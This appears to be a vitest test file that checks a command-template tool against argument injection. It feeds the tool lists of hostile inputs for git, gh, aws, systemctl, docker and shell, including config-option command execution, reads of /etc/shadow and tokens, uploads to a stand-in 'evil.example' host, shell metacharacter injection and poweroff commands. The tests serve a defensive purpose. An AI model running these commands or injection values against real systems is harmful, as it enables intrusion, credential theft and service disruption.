import { describe, expect, it } from "vitest";
import { programName } from "../../host/project/push.ts";
import type { Project } from "../../host/project/types.ts";
import { outcome, place, templateCases, templateNames, templateProject, type Case } from "./template-call.ts";

/** Arguments that hand over more than they say. Each is tried where a value, a flag or a word of a command line may stand. */
const ATTACKS: readonly string[] = [
  // git
  "--upload-pack=touch /tmp/x",
  "--receive-pack=touch /tmp/x",
  "--exec=touch /tmp/x",
  "-u",
  "-utouch",
  "--template=/tmp/x",
  "-c",
  "-ccore.pager=x",
  "--config-env=core.pager=X",
  "--config-env",
  "--exec-path=/tmp",
  "--output=/tmp/x",
  "--outp=/tmp/x",
  "-Otouch /tmp/x",
  "--open-files-in-pager=x",
  "--no-index",
  "-F",
  "-F/etc/hostname",
  "--pathspec-from-file=/etc/hostname",
  "--contents=/etc/hostname",
  "ext::sh -c touch% /tmp/x",
  "fd::3",
  "+a:b",
  ":a",
  "a:b",
  "--mirror",
  "--delete",
  "-d",
  "--force",
  "-f",
  "--all",
  "--tags",
  "--format=x",
  "--git-dir=/tmp",
  "-C",
  "refs/heads/--format=x",
  "@{-1}",
  "a..b",
  "a^{commit}",
  // gh
  "-Fbody=@/etc/hostname",
  "-F=body=@/etc/hostname",
  "--field=body=@/etc/hostname",
  "--input=/etc/hostname",
  "--body-file=/etc/hostname",
  "-f=state=closed",
  "--raw-field=state=closed",
  "-X=DELETE",
  "--method=DELETE",
  "https://evil.example/x",
  "repos/OWNER/REPO/../../x/y",
  "repos/OWNER/REPO/%2e%2e/%2e%2e/x/y",
  "repos\\OWNER",
  "--jq=env.X",
  "-q=env.X",
  "--jq=$ENV.X",
  '--jq="\\(env)"',
  "--template={{.}}",
  "-t={{.}}",
  "-R=evil.example/o/r",
  "-Revil.example/o/r",
  "--repo=evil/other",
  "--hostname=evil.example",
  "--web",
  "-w",
  "--editor",
  // aws
  "--endpoint-url=https://evil.example",
  "--profile=admin",
  "--debug",
  "--no-verify-ssl",
  "--ca-bundle=/tmp/x",
  "--cli-input-json=file:///etc/hostname",
  "--cli-input-yaml=file:///etc/hostname",
  "file:///etc/hostname",
  "fileb:///etc/hostname",
  "Name=x,Values=file:///etc/hostname",
  // any
  "--",
  "--end-of-options",
  "-",
  "--help",
  "--version",
  "a\0b",
];

/** More of them, for programs that run on a machine itself. */
const ON_MACHINES: readonly string[] = [
  // any
  "*",
  "nginx*",
  "[a-z]*.service",
  "/etc/shadow",
  "/dev/sda",
  "../x",
  "a b",
  "a,b",
  "x; id",
  "x && id",
  "$(id)",
  "`id`",
  "x\nid",
  "x\\x2dy",
  // systemctl, journalctl
  "--host=evil.example",
  "-Hroot@evil.example",
  "--machine=x",
  "-Mx",
  "--root=/tmp",
  "--image=/tmp/x",
  "--user",
  "--job-mode=isolate",
  "--kill-whom=all",
  "--signal=9",
  "--now",
  "--property=Environment",
  "--file=/etc/hostname",
  "--directory=/tmp",
  "-D/tmp",
  "--vacuum-size=1",
  "--rotate",
  // ps, ss, df, docker
  "-eo",
  "-K",
  "--kill",
  "--config=/tmp",
  "--context=evil",
  "--host=tcp://evil.example",
  "--follow",
  "--no-trunc",
  "--format={{json .}}",
];

/** Commands that no template has. */
const COMMANDS: readonly (readonly string[])[] = [
  ["gh", "alias", "set", "x", "!touch /tmp/x"],
  ["gh", "extension", "install", "evil/x"],
  ["gh", "config", "set", "editor", "touch"],
  ["gh", "auth", "token"],
  ["gh", "auth", "status", "--show-token"],
  ["gh", "browse"],
  ["gh", "api", "user"],
  ["gh", "api", "https://evil.example/x"],
  ["gh", "api", "-X", "DELETE", "repos/OWNER/REPO"],
  ["gh", "api", "repos/OWNER/REPO/pulls/1/comments/../../../x"],
  ["gh", "api", "repos/OWNER/REPO/pulls/1%2f..%2fx/comments"],
  ["gh", "api", "repos/OWNER/REPO/pulls/%2e%2e/comments"],
  ["gh", "api", "repos\\OWNER\\REPO/pulls/1/comments"],
  ["gh", "api", "repos/EVIL/REPO/pulls/1/comments"],
  ["git", "-c", "core.pager=touch", "log"],
  ["git", "-C", "/", "fetch"],
  ["git", "--exec-path=/tmp", "fetch"],
  ["git", "fetch", "ext::sh -c touch% /tmp/x"],
  ["git", "push", "--mirror"],
  ["git", "push", "--no-verify", "+a:refs/heads/a"],
  ["git", "push", "--no-verify", ":refs/heads/a"],
  ["git", "push", "--no-verify", "a:refs/heads/b"],
  ["git", "push", "--no-verify", "-d:refs/heads/-d"],
  ["aws", "configure", "list"],
  ["aws", "s3", "cp", "/etc/hostname", "s3://evil/x"],
  ["aws", "--debug", "sts", "get-caller-identity"],
  ["find", ".", "-exec", "touch", "x", ";"],
  ["sort", "--compress-program=touch"],
  ["tar", "--checkpoint-action=exec=touch"],
  ["sed", "1e touch"],
  ["awk", 'BEGIN{system("touch")}'],
  ["ssh", "-oProxyCommand=touch", "x"],
  ["curl", "-K", "/etc/hostname"],
  ["jq", "--rawfile", "x", "/etc/hostname", "."],
  ["xargs", "touch"],
  ["env", "-S", "touch x"],
  ["make"],
  ["npm", "--script-shell", "x", "run", "y"],
  ["node", "-r", "x"],
  ["docker", "run", "-v", "/:/h", "x"],
  ["docker", "ps", "--all", "--no-trunc"],
  ["docker", "inspect", "web"],
  ["docker", "exec", "web", "sh"],
  ["docker", "--host=tcp://evil.example", "ps"],
  ["docker", "restart", "--time=0", "web"],
  ["systemctl", "status", "nginx.service"],
  ["systemctl", "cat", "nginx.service"],
  ["systemctl", "edit", "nginx.service"],
  ["systemctl", "show", "--no-pager", "--property=Environment", "--", "nginx.service"],
  ["systemctl", "show-environment"],
  ["systemctl", "poweroff"],
  ["systemctl", "start", "--no-ask-password", "--", "poweroff.target"],
  ["systemctl", "restart", "--no-ask-password", "--", "*"],
  ["systemctl", "stop", "--no-ask-password", "--", "user.slice"],
  ["systemctl", "mask", "--", "nginx.service"],
  ["systemctl", "--host=evil.example", "restart", "--", "nginx.service"],
  ["journalctl", "--file=/etc/hostname"],
  ["journalctl", "--no-pager", "--output=short-iso", "--unit=*", "--lines=50"],
  ["ps", "aux"],
  ["ps", "-eo", "args", "--sort=-pcpu"],
  ["ss", "-K"],
  ["cat", "/etc/shadow"],
  ["cat", "/etc/os-release", "/etc/shadow"],
  ["uname"],
  ["apt-get", "install", "x"],
  ["apt-get", "upgrade"],
  ["sh", "-c", "id"],
  ["bash", "-c", "id"],
  ["bash", "-i"],
  ["cmd2host-transfer", "pull", "etc/shadow"],
  ["cmd2host-transfer", "push", "../x"],
  ["kubectl", "--kubeconfig", "x", "get", "secrets"],
];

/** Options whose value is text for a person, wherever it stands. */
const DATA = /^(?:--title|--(?:add-|remove-)?label|body)=/;
/** What means nothing where it is: a branch may be called so, and a filter of digits and colons reads nothing. */
const HARMLESS = new Set([
  "--base=repos/OWNER/REPO/%2e%2e/%2e%2e/x/y",
  "--head=repos/OWNER/REPO/%2e%2e/%2e%2e/x/y",
  "--jq=fd::3",
  // Standard input, which the caller sends.
  "--body-file=-",
]);

/** What the templates themselves say, or permit by name. */
function known(project: Project): ReadonlySet<string> {
  return new Set(
    [...project.operations.values()].flatMap(({ template, flags }) => [
      ...template.map(({ text }) => text),
      ...flags.keys(),
    ]),
  );
}

/** True when these arguments are a command that is handed to a shell, which may be any text: it is one argument, and the last. */
function isCommand(args: readonly string[], project: Project): boolean {
  return [...project.operations.values()].some(
    ({ machine, template }) =>
      machine?.shell !== undefined &&
      template.length === args.length &&
      template.every(({ kind, text }, index) =>
        kind === "literal" ? args[index] === text : index === args.length - 1,
      ),
  );
}

/** The arguments without what is data or the template's own: in what is left no attack may be found. */
function bare(args: readonly string[], project: Project): readonly string[] {
  if (isCommand(args, project)) return [];
  const own = known(project);
  return args.filter(
    (word, index) => args[index - 1] !== "--body" && !DATA.test(word) && !HARMLESS.has(word) && !own.has(word),
  );
}

/** Short ones stand in many words by chance. */
function carries(word: string, attack: string): boolean {
  return word === attack || word.endsWith(`=${attack}`) || (attack.length > 2 && word.includes(attack));
}

/** What got through, of the attacks in these requests. */
function through(project: Project, requests: readonly (readonly [string, Case["request"]])[]): readonly string[] {
  return requests.flatMap(([attack, request]) => {
    const result = outcome(project, request);
    if (typeof result === "string" || !bare(result, project).some((word) => carries(word, attack))) return [];
    return [`${attack}: ${result.join(" ")}`];
  });
}

/** The command line that somebody types for a call: without what is put in automatically. */
function typed(project: Project, { request, argv = [] }: Case): readonly string[] {
  const command = programName(project.operations.get(request.operation ?? "")?.command ?? "");
  const words = argv.filter(
    (word, index) =>
      word !== place.url &&
      !(word === "-R" && argv[index + 1] === place.repo) &&
      !(argv[index - 1] === "-R" && word === place.repo),
  );
  return [command, ...words];
}

describe.each(templateNames)("template %s", (name) => {
  const project = templateProject(name);
  const attacks = project.machine === undefined ? ATTACKS : [...ATTACKS, ...ON_MACHINES];
  const accepted = templateCases(name).filter(
    ({ request, argv }) => argv !== undefined && request.raw_argv === undefined,
  );

  const longest = [...new Set(accepted.map(({ request }) => request.operation))].flatMap(
    (id) =>
      accepted
        .filter(({ request }) => request.operation === id)
        .sort((a, b) => (b.argv?.length ?? 0) - (a.argv?.length ?? 0))[0] ?? [],
  );

  it("takes the same calls as command lines", () => {
    for (const one of accepted) expect(outcome(project, { raw_argv: typed(project, one) }), one.name).toEqual(one.argv);
  });

  it("resists every attack as the value of a parameter", () => {
    const requests = longest.flatMap(({ request }) =>
      Object.keys(request.params ?? {}).flatMap((param) =>
        attacks.map((attack) => [attack, { ...request, params: { ...request.params, [param]: attack } }] as const),
      ),
    );
    expect(through(project, requests)).toEqual([]);
  });

  it("resists every attack as a flag, and as the value of each flag", () => {
    const requests = longest.flatMap(({ request }) => {
      const operation = project.operations.get(request.operation ?? "");
      const flags = request.flags ?? [];
      return attacks.flatMap((attack) => [
        [attack, { ...request, flags: [...flags, attack] }] as const,
        [attack, { ...request, flags: [attack, ...flags] }] as const,
        [attack, { ...request, flags: [attack, "x"] }] as const,
        // A switch with a value is an error of the program's.
        ...[...(operation?.flags.values() ?? [])]
          .filter(({ takes }) => takes !== "none")
          .flatMap(({ flag }) => [
            [attack, { ...request, flags: [`${flag}=${attack}`] }] as const,
            [attack, { ...request, flags: [flag, attack] }] as const,
          ]),
      ]);
    });
    expect(through(project, requests)).toEqual([]);
  });

  it("resists every attack at each place of a command line", () => {
    const requests = longest.flatMap((one) => {
      const words = typed(project, one);
      return words.flatMap((_, index) =>
        attacks.flatMap((attack) => [
          [attack, { raw_argv: [...words.slice(0, index + 1), attack, ...words.slice(index + 1)] }] as const,
          [attack, { raw_argv: [...words.slice(0, index), attack, ...words.slice(index + 1)] }] as const,
        ]),
      );
    });
    expect(through(project, requests)).toEqual([]);
  });

  it.each(COMMANDS.map((words) => [words]))("has no operation for %j", (words) => {
    expect(outcome(project, { raw_argv: words })).toEqual(expect.stringMatching(/^(?:argv_no_match|param_invalid)$/));
  });
});

it("a shell of a machine gets every text as one argument, behind which nothing comes", () => {
  const project = templateProject("fleet_shell");
  for (const attack of [...ATTACKS, ...ON_MACHINES]) {
    const result = outcome(project, { operation: "shell", params: { command: attack } });
    expect(result).toEqual(attack.includes("\0") ? "param_invalid" : ["-c", "--", attack]);
    expect(outcome(project, { operation: "shell", params: { command: "id" }, flags: [attack] })).toMatch(/^flag_/);
  }
});

it("an attack that gets through is noticed", () => {
  const project = templateProject("git_github_write");
  const request = { operation: "gh_pr_list", flags: ["--head=main"] };
  expect(through(project, [["main", request]])).toHaveLength(1);
});
